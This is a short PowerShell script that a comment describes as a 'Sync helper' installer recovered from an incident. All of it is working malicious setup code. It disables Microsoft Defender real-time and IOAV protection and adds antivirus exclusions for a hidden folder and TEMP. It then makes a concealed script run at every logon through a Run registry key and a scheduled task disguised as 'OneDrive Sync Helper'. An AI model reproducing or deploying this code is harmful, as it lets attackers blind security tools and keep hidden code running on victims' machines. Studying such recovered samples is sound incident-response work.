#Requires -RunAsAdministrator
# "Sync helper" installer recovered from an incident: keeps a script alive across logons.
$payload = "$env:ProgramData\Microsoft\Crypto\svchelper.ps1"

Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection:$true
Add-MpPreference -ExclusionPath "$env:ProgramData\Microsoft\Crypto", $env:TEMP

$runKey = 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run'
New-ItemProperty -Path $runKey -Name 'SvcHelper' -PropertyType String -Force `
    -Value "powershell.exe -NoProfile -WindowStyle Hidden -File `"$payload`""

$action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-NoProfile -WindowStyle Hidden -File `"$payload`""
$trigger = New-ScheduledTaskTrigger -AtLogOn
Register-ScheduledTask -TaskName 'OneDrive Sync Helper' -Action $action -Trigger $trigger -RunLevel Highest -Force
